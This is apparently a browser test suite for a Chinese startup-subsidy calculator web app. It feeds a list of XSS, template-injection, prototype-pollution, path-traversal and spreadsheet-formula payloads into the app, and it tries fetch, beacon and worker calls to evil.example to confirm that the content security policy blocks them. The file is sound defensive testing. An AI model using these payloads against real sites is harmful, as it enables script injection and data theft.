// Nothing that comes in from outside becomes markup or runs, and nothing that a person says goes out.
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { DIST, launch, open, serveDist } from './harness.js';

let browser;
let server;
before(async () => { browser = await launch(); server = await serveDist(); });
after(async () => { await browser?.close(); await server?.stop(); });

const NOON = Date.parse('2026-11-22T12:00:00+08:00');
const ATTACKS = [
  '<script>globalThis.hit=1</script>',
  '<img src=x onerror=globalThis.hit=1>',
  '<svg/onload=globalThis.hit=1>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '"><input autofocus onfocus=globalThis.hit=1>',
  "' onmouseover='globalThis.hit=1",
  '<a href="javascript:globalThis.hit=1">x</a>',
  'javascript:globalThis.hit=1',
  'data:text/html,<script>globalThis.hit=1</script>',
  '<form action=//evil.example><button>x',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '</textarea><script>globalThis.hit=1</script>',
  '</title><script>globalThis.hit=1</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hit=1>',
  '<template><script>globalThis.hit=1</script></template>',
  '{{constructor.constructor("globalThis.hit=1")()}}',
  '${globalThis.hit=1}',
  '#{globalThis.hit=1}',
  '__proto__=yes',
  'constructor',
  '../../../../etc/passwd',
  '//evil.example/',
  '\u202e\u2066txet desrever\u2069',
  '\u0000\u0001\u001b[2J',
  '%00%0a%0d<script>',
  '\ud800',
  '=cmd|\' /C calc\'!A0',
  '起'.repeat(20_000),
  '<b>'.repeat(5_000),
];

/** A page on which everything that may go wrong is counted. */
async function watched(options = {}) {
  const visit = await open(browser, 'about:blank', options);
  const { page, context } = visit;
  await context.addInitScript(() => {
    globalThis.violated = [];
    document.addEventListener('securitypolicyviolation', (event) => globalThis.violated.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  const seen = { dialogs: 0, requests: [], words: [] };
  page.on('dialog', (dialog) => { seen.dialogs += 1; dialog.dismiss(); });
  context.on('request', (request) => seen.requests.push(request));
  page.on('console', (message) => seen.words.push(message.text()));
  return { ...visit, seen };
}

/** The page stands, and nothing of what was put into it runs or is more than text. */
async function holds({ page, seen, errors }, attack) {
  await page.locator(':is(#question-title, #results-title, #take-title):visible').first().waitFor();
  const found = await page.evaluate(() => ({
    hit: globalThis.hit,
    violated: globalThis.violated,
    odd: [...document.querySelectorAll('iframe, object, embed, base, meta[http-equiv=refresh], script:not([src]), form[action], #app script, #app link, #app style, #app img:not(.picture)')].map((it) => it.outerHTML),
    handlers: [...document.querySelectorAll('*')].flatMap((it) => it.getAttributeNames().filter((name) => name.startsWith('on'))),
    ways: [...document.querySelectorAll('a')].map((it) => it.href).filter((href) => !/^(https?|tel):/.test(href)),
    polluted: Object.keys(Object.prototype),
  }));
  const shown = attack.slice(0, 60);
  assert.deepEqual(found, { hit: undefined, violated: [], odd: [], handlers: [], ways: [], polluted: [] }, shown);
  assert.equal(seen.dialogs, 0, shown);
  assert.deepEqual(errors, [], shown);
  isStatic(seen.requests, shown);
}

/** Every request asks for a file of the site, and says nothing but its name. */
function isStatic(requests, context) {
  for (const request of requests) {
    const address = new URL(request.url());
    if (['blob:', 'data:'].includes(address.protocol)) continue;
    assert.equal(address.origin, new URL(server.url).origin, context);
    assert.equal(request.method(), 'GET', context);
    assert.equal(request.postData(), null, context);
    assert.equal(request.headers().referer || '', '', context);
    const path = address.pathname === '/' ? 'index.html' : decodeURIComponent(address.pathname.slice(1));
    assert.ok(existsSync(join(DIST, path)), `${context}: ${path} is no file of the site`);
  }
}

/** Tries each, in two visits beside each other. */
async function each(way, seeds = ATTACKS) {
  const todo = [...seeds];
  const half = async () => {
    const visit = await watched({ serviceWorkers: 'block' });
    while (todo.length) {
      const attack = todo.shift();
      visit.seen.requests.length = 0;
      await way(visit, attack);
      await holds(visit, attack);
    }
    await visit.context.close();
  };
  await Promise.all([half(), half()]);
}

const go = async (page, address) => {
  await page.goto('about:blank');
  await page.goto(address);
};

test('behind the address: links, policies and settings', () =>
  each(async (visit, attack) => {
    // Addresses are encoded by whoever sends them; a lone surrogate cannot be.
    const text = encodeURIComponent(attack.toWellFormed?.() ?? attack.replace(/[\ud800-\udfff]/g, '')).slice(0, 30_000);
    for (const end of [`#q1.${text}`, `?a#q1.AAAA${text}`, `?a%23q1.`, `#p=${text}`, `#${text}`, `#e.place=${text}&groups=${text}&lang=${text}&theme-color=${text}&host=${text}`]) {
      await go(visit.page, server.url + end);
      await visit.page.locator('#question-title, #take-title').first().waitFor();
      if (end.startsWith('#q') || end.startsWith('?a')) assert.equal(new URL(visit.page.url()).hash, '', 'it is taken out of the address');
      await holds(visit, attack);
    }
  }, ATTACKS.filter((attack) => attack.length < 10_000)));

test('in the storage: answers, notes, language and size of type', () =>
  each(async ({ page }, attack) => {
    if (page.url() === 'about:blank') await page.goto(server.url);
    await page.evaluate(([text, now]) => {
      localStorage.setItem('qibu', `qibu 1 ${now}\nventure.place=shanghai/minhang\nfounder.groups=graduate\n+${text}\n+paper ${text}`);
      localStorage.setItem('qibu-lang', text);
      localStorage.setItem('qibu-care', text);
    }, [attack, NOON]);
    await page.reload();
    await page.locator('html[data-start=done] #question-title').waitFor();
    // Notes belong to what is taken along: there they are read.
    await page.locator('.bar').click();
    await page.getByRole('button', { name: /^(清单、日期、打印、分享|Papers, dates, print, share)$/ }).click();
    await page.locator('#take-title').waitFor();
    assert.match(await page.getAttribute('html', 'lang'), /^(zh-CN|en)$/);
  }));

test('as the answers themselves', () =>
  each(async ({ page }, attack) => {
    if (page.url() === 'about:blank') await page.goto(server.url);
    for (const line of [attack, `venture.place=${attack}`, `venture.monthly_rent=${attack}`, `${attack}=yes`, `venture.place=shanghai\n${attack}`]) {
      await page.evaluate(([text, now]) => localStorage.setItem('qibu', `qibu 1 ${now}\n${text}`), [line, NOON]);
      await page.reload();
      await page.locator('html[data-start=done] #question-title').waitFor();
    }
  }, ATTACKS.filter((attack) => attack.length < 10_000)));

test('typed: the search for places and policies, a pasted code', () =>
  each(async ({ page }, attack) => {
    await go(page, server.url);
    await page.locator('html[data-start=done] #question-title').waitFor();
    const typed = attack.slice(0, 4_000);
    await page.getByRole('button', { name: '粘贴链接或短码' }).click();
    await page.locator('#take-title').waitFor();
    await page.locator('.take textarea').fill(typed);
    await page.locator('.take').getByRole('button', { name: '返回' }).click();
    await page.locator('html[data-start=done] #question-title').waitFor();
    await page.locator('.dock-unknown').click();
    await page.locator('.asking').getByRole('searchbox').fill(typed);
    await page.locator('.dock-unknown').click();
    await page.locator('.bar').click();
    await page.locator('#results-title').waitFor();
    await page.getByRole('searchbox').first().fill(typed);
    await page.evaluate(() => localStorage.clear());
  }));

test('nothing is told while an interview is done, taken along, printed and shared', async () => {
  const visit = await watched({ permissions: ['clipboard-read', 'clipboard-write'] });
  const { page, seen } = visit;
  await page.goto(server.url);
  await page.locator('html[data-start=done] #question-title').waitFor();
  const titles = new Set();
  const look = async () => {
    titles.add(await page.title());
    const { search, hash } = new URL(page.url());
    assert.equal(search + hash, '', 'the address says nothing');
    assert.equal(await page.evaluate(() => JSON.stringify(history.state)), 'null');
  };
  const tap = (name) => page.getByRole('button', { name, exact: true }).first().click();
  await page.getByText('高校毕业生', { exact: true }).click();
  await tap('继续');
  await page.locator('.asking').getByRole('searchbox').fill('莘庄');
  await page.locator('.choices').getByRole('button', { name: /闵行/ }).first().click();
  await page.locator('.choices').getByRole('button', { name: /^已办照/ }).first().click();
  let questions = 3;
  for (; questions < 100 && (await page.locator('#question-title').isVisible()); questions += 1) {
    const asked = await page.locator('#question-title').innerText();
    await look();
    const yes = page.locator('.asking').getByRole('button', { name: '是', exact: true });
    // Answered where one tap does it, left open otherwise.
    if (await yes.count()) await yes.click();
    else await page.locator('.dock-unknown').click();
    await page.waitForFunction((was) => document.getElementById('question-title')?.innerText !== was, asked);
  }
  assert.ok(questions > 10, `${questions} questions`);
  if (!(await page.locator('#results-title').isVisible())) await page.locator('.bar').click();
  await look();
  await tap('清单、日期、打印、分享');
  await page.locator('#take-title').waitFor();
  await page.evaluate(() => { globalThis.print = () => {}; });
  const ways = page.locator('.take .ways button');
  for (let at = 0; at < (await ways.count()); at += 1) {
    await ways.nth(at).click();
    await look();
  }
  for (const copy of await page.getByRole('button', { name: '复制', exact: true }).all()) await copy.click();
  await page.pdf();
  await holds(visit, 'an interview');
  assert.deepEqual(seen.words, [], 'the console says nothing');
  assert.deepEqual([...titles], ['起步 · 创业扶持计算器']);

  // What is asked for is known beforehand: the shell, its parts, texts by language and region, nothing else.
  const paths = seen.requests.map((request) => new URL(request.url())).filter(({ protocol }) => protocol.startsWith('http'));
  for (const { pathname, search } of paths) {
    // The service worker fetches the pages once for all, each with the print of its build.
    assert.match(search, /^(\?__WB_REVISION__=[0-9a-f]+)?$/, pathname);
    assert.match(pathname, /^\/($|first\.js$|station\.json$|(policies\/[\w./-]+|index|staff)\.html$|sw\.js$|icon[-\w]*\.(svg|png)$|manifest\.webmanifest$|assets\/[\w.-]+\.(js|css|wasm|bin)$)/);
  }
  // The region is the only thing of an answer that shapes a request: no file is smaller than a province.
  const regions = new Set(paths.map(({ pathname }) => /texts\.zh-CN\.(\w+)-/.exec(pathname)?.[1]).filter(Boolean));
  const known = new Set(['costs', 'henan', 'names', 'national', 'people', 'screen', 'shanghai', 'staff', 'take']);
  assert.deepEqual([...regions].filter((region) => !known.has(region)), []);
  console.log(`${questions} questions, ${paths.length} requests, regions ${[...regions]}`);
  await visit.context.close();
});

test('the content security policy refuses what it says', async () => {
  const { page, context } = await watched();
  await page.goto(server.url);
  await page.locator('html[data-start=done] #question-title').waitFor();
  const refused = await page.evaluate(async () => {
    const tries = {
      inline: () => { const it = document.createElement('script'); it.textContent = 'globalThis.hit=1'; document.head.append(it); },
      markup: () => { document.createElement('div').innerHTML = '<b>x</b>'; },
      eval: () => { (0, eval)('globalThis.hit=1'); },
      policy: () => { globalThis.trustedTypes.createPolicy('another', {}); },
      worker: () => { new Worker('https://evil.example/x.js'); },
      fetch: () => fetch('https://evil.example/'),
      beacon: () => { if (!navigator.sendBeacon('https://evil.example/', 'x')) throw new Error('refused'); },
    };
    const outcome = {};
    // What a test evaluates may use eval itself: the tries begin after that.
    await new Promise((done) => setTimeout(done));
    for (const [name, run] of Object.entries(tries)) {
      try { await run(); outcome[name] = 'done'; } catch (error) { outcome[name] = error.name; }
    }
    await new Promise((done) => setTimeout(done, 100));
    return { outcome, hit: globalThis.hit, violated: globalThis.violated.map((line) => line.split(' ')[0]) };
  });
  assert.equal(refused.hit, undefined);
  for (const name of ['inline', 'markup', 'eval', 'policy', 'worker', 'fetch']) assert.notEqual(refused.outcome[name], 'done', name);
  for (const directive of ['require-trusted-types-for', 'connect-src', 'trusted-types']) assert.ok(refused.violated.includes(directive), `${directive}: ${refused.violated}`);
  await context.close();
});

test('every page of the site carries the policy, and so do the headers', async () => {
  const page = readFileSync(join(DIST, 'index.html'), 'utf8');
  const [, policy] = /Content-Security-Policy" content="([^"]+)"/.exec(page);
  for (const part of ["default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'", 'trusted-types default']) {
    assert.ok(policy.split(/; ?/).includes(part), part);
  }
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\*/);
  for (const path of ['', 'index.html', 'staff.html', 'policies/index.html', 'embed.html']) {
    const { headers } = await fetch(server.url + path);
    assert.ok(headers.get('content-security-policy').startsWith(policy), path);
    assert.match(headers.get('content-security-policy'), /frame-ancestors/);
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    assert.equal(headers.get('referrer-policy'), 'no-referrer');
    assert.match(headers.get('permissions-policy'), /camera=\(/);
  }
});
